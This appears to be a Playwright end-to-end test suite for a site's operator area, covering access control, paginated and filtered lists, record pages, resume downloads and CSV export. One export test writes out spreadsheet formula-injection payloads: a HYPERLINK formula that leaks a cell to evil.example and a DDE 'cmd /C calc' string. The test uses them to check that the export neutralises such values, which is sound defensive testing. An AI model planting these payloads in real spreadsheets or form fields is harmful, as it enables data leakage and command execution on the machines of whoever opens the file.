import { request as playwrightRequest, type APIRequestContext } from "@playwright/test";
import { baseUrl, createAccount, expect, signIn, test } from "./support/accounts";
import { expectNoAxeViolations, query, sha256Of } from "./support/fixtures";
import { insertPendingPost } from "./support/blog-posts";
import { insertCareer, insertSubscriber, RESUME, submitCareer, uniqueTag } from "./support/records";

type Row = Record<string, string | number | null>;
const DAY = 24 * 60 * 60 * 1000;

async function apiAs(role: "anonymous" | "user"): Promise<APIRequestContext> {
  const cookie = role === "user" ? { Cookie: `sid=${createAccount("user").token}` } : undefined;
  return playwrightRequest.newContext({ baseURL: baseUrl(), extraHTTPHeaders: cookie });
}

const LIST_KEYS = [
  "career-applications",
  "business-enquiries",
  "partnership-enquiries",
  "contact-messages",
  "feedback",
  "subscribers",
  "blog-submissions",
  "outgoing-mail",
];

test.describe("operator area: access", () => {
  test("anonymous visitors are sent to log in, with the page to come back to", async ({ page, request }) => {
    for (const path of ["/admin", "/admin/career-applications?status=new", "/admin/feedback/abc", "/Newsletter"]) {
      const response = await request.get(path, { maxRedirects: 0 });
      expect(response.status(), path).toBe(307);
      expect(response.headers().location, path).toBe(`/login?next=${encodeURIComponent(path)}`);
    }
    await page.goto("/admin/subscribers");
    await expect(page).toHaveURL(/\/login\?next=%2Fadmin%2Fsubscribers$/);
  });

  test("a signed-in visitor without the operator role sees the refusal page and no operator navigation", async ({ page, context }) => {
    await signIn(context, "user");
    for (const path of ["/admin", "/admin/career-applications", "/Newsletter"]) {
      await page.goto(path);
      await expect(page).toHaveURL(/\/admin\/forbidden$/);
      await expect(page.getByRole("heading", { name: "This area is for the site's operator only" })).toBeVisible();
      await expect(page.getByRole("navigation", { name: "Operator" })).toHaveCount(0);
    }
    await expectNoAxeViolations(page);
  });

  test("every operator handler answers 401 without a session and 403 without the role, and changes nothing", async ({ request }) => {
    const application = await submitCareer(request, {}, { resume: true });
    const post = insertPendingPost(`Handler guard ${uniqueTag()}`);
    const campaignsBefore = query<{ n: number }>("SELECT COUNT(*) AS n FROM Campaign")[0]?.n;
    const multipart = { subject: "Hello", message: "Body" };
    const calls: Array<[string, (api: APIRequestContext) => ReturnType<APIRequestContext["get"]>]> = [
      ["POST /api/send-newsletter", (api) => api.post("/api/send-newsletter", { multipart })],
      ["POST /api/send-newsletter/test", (api) => api.post("/api/send-newsletter/test", { multipart })],
      ["GET /api/admin/campaigns", (api) => api.get("/api/admin/campaigns")],
      ["POST /api/admin/campaigns/:id", (api) => api.post("/api/admin/campaigns/some-id", { data: { action: "pause" } })],
      [
        "POST /api/admin/work/:kind/:id",
        (api) => api.post(`/api/admin/work/career/${application.id}`, { data: { action: "stage", stageId: "applications:hired" } }),
      ],
      [
        "POST /api/admin/work/bulk",
        (api) => api.post("/api/admin/work/bulk", { data: { kind: "career", ids: [application.id], action: "stage", stageId: "applications:hired" } }),
      ],
      ["POST /api/admin/blog-posts/:id (publish)", (api) => api.post(`/api/admin/blog-posts/${post.id}`, { data: { action: "publish" } })],
      ["POST /api/admin/blog-posts/:id (reject)", (api) => api.post(`/api/admin/blog-posts/${post.id}`, { form: { action: "reject", reason: "x" } })],
      ["GET /admin/:list/:id/resume", (api) => api.get(`/admin/career-applications/${application.id}/resume`)],
      ["GET /admin/messages/:id/attachments/:id", (api) => api.get("/admin/messages/cabcdefghijklmnopqrstuvwx/attachments/cabcdefghijklmnopqrstuvwy")],
      ["POST /api/admin/unmatched-mail/:id", (api) => api.post("/api/admin/unmatched-mail/cabcdefghijklmnopqrstuvwx", { data: { action: "delete" } })],
      ["POST /api/admin/records/outgoing-mail/:id/retry", (api) => api.post(`/api/admin/records/outgoing-mail/${application.id}/retry`)],
      ["POST /api/admin/working-hours", (api) => api.post("/api/admin/working-hours", { form: { timeZone: "UTC", start: "09:00", end: "17:00", day1: "on" } })],
      ["POST /api/admin/holidays", (api) => api.post("/api/admin/holidays", { form: { day: "2031-12-25", name: "Christmas" } })],
      [
        "POST /api/admin/work/:kind/:id/messages",
        (api) => api.post(`/api/admin/work/career/${application.id}/messages`, { data: { subject: "Hi", body: "Hello" } }),
      ],
      [
        "POST /api/admin/work/:kind/:id/messages/preview",
        (api) => api.post(`/api/admin/work/career/${application.id}/messages/preview`, { data: { subject: "Hi", body: "Hello" } }),
      ],
      ["POST /api/admin/templates", (api) => api.post("/api/admin/templates", { form: { action: "delete", id: "template:acknowledge" } })],
      ...LIST_KEYS.map((key): [string, (api: APIRequestContext) => ReturnType<APIRequestContext["get"]>] => [
        `GET /admin/export/${key}.csv`,
        (api) => api.get(`/admin/export/${key}.csv`),
      ]),
    ];
    for (const [role, status] of [
      ["anonymous", 401],
      ["user", 403],
    ] as const) {
      const api = await apiAs(role);
      for (const [name, call] of calls) {
        const response = await call(api);
        expect(response.status(), `${name} as ${role}`).toBe(status);
        expect(response.headers()["content-type"], name).toContain("application/json");
        expect(typeof ((await response.json()) as { error?: unknown }).error, name).toBe("string");
      }
      await api.dispose();
    }
    expect(query<Row>("SELECT status, note FROM CareerApplication WHERE id = ?", application.id)[0]).toEqual({ status: "new", note: null });
    expect(query<{ n: number }>("SELECT COUNT(*) AS n FROM Campaign")[0]?.n).toBe(campaignsBefore);
    expect(query<Row>("SELECT status, rejectReason FROM BlogPost WHERE id = ?", post.id)[0]).toEqual({ status: "pending", rejectReason: null });
  });
});

test.describe("operator area: lists and records", () => {
  test("a list is newest first, paginated, and filtered by status, date range and search through the URL", async ({ page, operator }) => {
    expect(operator.role).toBe("operator");
    const tag = uniqueTag();
    const now = Date.now();
    // 27 applications, one a day: two pages of 25.
    const ids = Array.from({ length: 27 }, (_, day) =>
      insertCareer({
        firstName: `Person${day}`,
        lastName: tag,
        emailAddress: `p${day}-${tag.toLowerCase()}@example.com`,
        createdAt: new Date(now - day * DAY),
        status: day % 3 === 0 ? "contacted" : "new",
      }),
    );
    await page.goto("/admin/career-applications");
    await page.getByLabel("Search by name, e-mail, phone or words from the resume").fill(tag);
    await page.getByRole("button", { name: "Filter" }).click();
    await expect(page).toHaveURL(new RegExp(`/admin/career-applications\\?q=${tag}$`));
    await expect(page.getByText("Showing 1–25 of 27", { exact: true })).toBeVisible();
    const names = page.getByRole("rowheader");
    await expect(names).toHaveCount(25);
    await expect(names.first()).toHaveText(`Person0 ${tag}`);
    await expect(names.nth(1)).toHaveText(`Person1 ${tag}`);

    await page.getByRole("link", { name: "Next page" }).click();
    await expect(page).toHaveURL(new RegExp(`\\?q=${tag}&page=2$`));
    await expect(names).toHaveText([`Person25 ${tag}`, `Person26 ${tag}`]);

    await page.getByLabel("Status").selectOption("contacted");
    await page.getByRole("button", { name: "Filter" }).click();
    await expect(page).toHaveURL(new RegExp(`\\?q=${tag}&status=contacted$`));
    await expect(names).toHaveCount(9);
    await expect(page.getByRole("cell", { name: "New", exact: true })).toHaveCount(0);

    const day = (offset: number) => new Date(now - offset * DAY + 5.5 * 60 * 60 * 1000).toISOString().slice(0, 10);
    await page.goto(`/admin/career-applications?q=${tag}&from=${day(5)}&to=${day(3)}`);
    await expect(names).toHaveText([`Person3 ${tag}`, `Person4 ${tag}`, `Person5 ${tag}`]);

    await page.goto(`/admin/career-applications?q=p7-${tag.toLowerCase()}%40example.com`);
    await expect(names).toHaveText([`Person7 ${tag}`]);
    await page.getByRole("link", { name: `Person7 ${tag}` }).click();
    await expect(page).toHaveURL(`/admin/career-applications/${ids[7]}`);
    await expect(page.getByRole("heading", { level: 1, name: `Person7 ${tag}` })).toBeVisible();
    await expect(page.getByText("Resume missing")).toBeVisible();
  });

  test("a record shows its fields, consent and feedback; its stage is moved and a note added", async ({ page, operator, request, visitorIp }) => {
    expect(operator.email).toContain("@");
    const tag = uniqueTag();
    const application = await submitCareer(
      request,
      { lastName: tag },
      { resume: true, feedback: { appliedBefore: 1, gotCall: 0, experience: "average", suggestions: "Call me back." } },
    );
    await page.goto(`/admin/career-applications?q=${tag}`);
    await expect(page.getByRole("cell", { name: "Uploaded" })).toBeVisible();
    await page.getByRole("link", { name: `Asha ${tag}` }).click();

    const details = page.getByRole("region", { name: "Details" });
    for (const [label, value] of [
      ["E-mail", application.emailAddress],
      ["Position", "Developer"],
      ["Notice period", "30 days"],
    ]) {
      await expect(details.getByRole("term").filter({ hasText: new RegExp(`^${label}$`) })).toBeVisible();
      await expect(details.getByRole("definition").filter({ hasText: value })).toBeVisible();
    }
    await expect(page.getByRole("region", { name: "Consent" })).toContainText(`from IP address ${visitorIp}`);
    const feedback = page.getByRole("region", { name: "Feedback" });
    await expect(feedback.getByRole("definition")).toHaveText(["Yes", "No", "Not answered", "Average", "Call me back."]);

    await page.getByRole("combobox", { name: "Stage", exact: true }).selectOption({ label: "Interview" });
    await page.getByRole("button", { name: "Move" }).click();
    await expect(page.getByRole("status")).toHaveText("Stage saved.");
    await expect(page.getByRole("combobox", { name: "Stage", exact: true })).toHaveValue("applications:interview");
    await page.getByLabel("New note").fill("Phoned on Monday; **interview** next week.");
    await page.getByRole("button", { name: "Add note" }).click();
    await expect(page.getByRole("status")).toHaveText("Note added.");
    const history = page.getByRole("list", { name: "History" });
    await expect(history.getByRole("listitem").last()).toContainText("Phoned on Monday; interview next week.");
    await expect(history.locator("strong")).toHaveText("interview");
    expect(query<Row>("SELECT status FROM CareerApplication WHERE id = ?", application.id)[0]).toEqual({ status: "in_progress" });
    await expectNoAxeViolations(page);
  });

  test("the resume downloads as an attachment with nosniff", async ({ page, operator, request }) => {
    expect(operator.role).toBe("operator");
    const tag = uniqueTag();
    const application = await submitCareer(request, { lastName: tag }, { resume: true });
    await page.goto(`/admin/career-applications/${application.id}`);
    const link = page.getByRole("link", { name: "Download resume.pdf" });
    const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
    expect(download.suggestedFilename()).toBe("resume.pdf");
    expect(sha256Of(await download.path())).toBe(sha256Of(RESUME));

    const response = await page.request.get(`/admin/career-applications/${application.id}/resume`);
    expect(response.status()).toBe(200);
    expect(response.headers()["content-disposition"]).toMatch(/^attachment; filename="resume\.pdf"/);
    expect(response.headers()["x-content-type-options"]).toBe("nosniff");
    expect(response.headers()["content-type"]).toBe("application/pdf");
  });

  test("the CSV export keeps the filters and neutralises a formula payload", async ({ page, operator, request }) => {
    expect(operator.role).toBe("operator");
    const tag = uniqueTag();
    const payload = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    await submitCareer(request, { firstName: payload, lastName: tag, currentCompany: "@SUM(1+1)*cmd|' /C calc'!A0" });
    await submitCareer(request, { firstName: "Plain", lastName: tag });
    await page.goto(`/admin/career-applications?q=${tag}`);
    const exportLink = page.getByRole("link", { name: "Export CSV" });
    await expect(exportLink).toHaveAttribute("href", `/admin/export/career-applications.csv?q=${tag}`);
    const [download] = await Promise.all([page.waitForEvent("download"), exportLink.click()]);
    expect(download.suggestedFilename()).toMatch(/^career-applications-\d{4}-\d{2}-\d{2}\.csv$/);

    const response = await page.request.get(`/admin/export/career-applications.csv?q=${tag}`);
    expect(response.headers()["content-type"]).toBe("text/csv; charset=utf-8");
    expect(response.headers()["content-disposition"]).toMatch(/^attachment;/);
    expect(response.headers()["x-content-type-options"]).toBe("nosniff");
    const csv = (await response.text()).replace(/^\uFEFF/, "");
    const lines = csv.trimEnd().split("\r\n");
    expect(lines[0]).toMatch(/^Id,Received,Status,Note,First name,Last name,/);
    expect(lines).toHaveLength(3);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`);
    expect(csv).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  test("feedback and subscribers have their own lists, searchable and filterable", async ({ page, operator, request }) => {
    expect(operator.role).toBe("operator");
    const tag = uniqueTag();
    await submitCareer(request, { lastName: tag }, { feedback: { experience: "bad", suggestions: `Too slow ${tag}` } });
    await page.goto(`/admin/feedback?q=${tag}`);
    await expect(page.getByRole("rowheader")).toHaveText([`Career application of Asha ${tag}`]);
    await page.getByLabel("Experience").selectOption("good");
    await page.getByRole("button", { name: "Filter" }).click();
    await expect(page.getByText("Nothing matches these filters.")).toBeVisible();
    await page.goto(`/admin/feedback?q=${tag}&status=bad`);
    await page.getByRole("link", { name: `Career application of Asha ${tag}` }).click();
    await expect(page.getByRole("heading", { level: 1, name: "Feedback" })).toBeVisible();
    await expect(page.getByRole("definition").filter({ hasText: `Too slow ${tag}` })).toBeVisible();
    await page.getByRole("link", { name: `Career application of Asha ${tag}` }).click();
    await expect(page.getByRole("heading", { level: 1, name: `Asha ${tag}` })).toBeVisible();

    const lower = tag.toLowerCase();
    insertSubscriber(`c-${lower}@example.com`, "confirmed");
    insertSubscriber(`p-${lower}@example.com`, "pending");
    await page.goto(`/admin/subscribers?q=${lower}&status=confirmed`);
    await expect(page.getByRole("rowheader")).toHaveText([`c-${lower}@example.com`]);
    await page.getByRole("link", { name: `c-${lower}@example.com` }).click();
    await expect(page.getByRole("region", { name: "Consent" })).toContainText("from IP address 198.51.100.7");
    await expectNoAxeViolations(page);
  });

  test("the dashboard draws this week's submissions and links to every list", async ({ page, operator, request }) => {
    test.slow(); // axe runs on the dashboard and on each of the eight lists
    expect(operator.role).toBe("operator");
    await submitCareer(request, { lastName: uniqueTag() });
    await page.goto("/admin");
    const chart = page.getByRole("img", { name: "Submissions per week" });
    await expect(chart).toBeVisible();
    await page.getByRole("figure").filter({ has: chart }).getByText("Show the numbers").click();
    const rows = page.getByRole("table", { name: "Submissions per week" }).getByRole("row");
    await expect(rows).toHaveCount(13);
    const thisWeek = Number(await rows.last().getByRole("cell").first().textContent());
    expect(thisWeek).toBeGreaterThanOrEqual(1);
    const nav = page.getByRole("navigation", { name: "Operator" });
    await expect(nav.getByRole("link", { name: "Dashboard" })).toHaveAttribute("aria-current", "page");
    for (const name of [
      "Career applications",
      "Business enquiries",
      "Partnership enquiries",
      "Contact messages",
      "Feedback",
      "Subscribers",
      "Blog submissions",
      "Outgoing mail",
      "Newsletter",
    ]) {
      await expect(nav.getByRole("link", { name, exact: true })).toBeVisible();
    }
    await expectNoAxeViolations(page);
    for (const key of LIST_KEYS) {
      await page.goto(`/admin/${key}`);
      await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
      await expectNoAxeViolations(page);
    }
  });
});
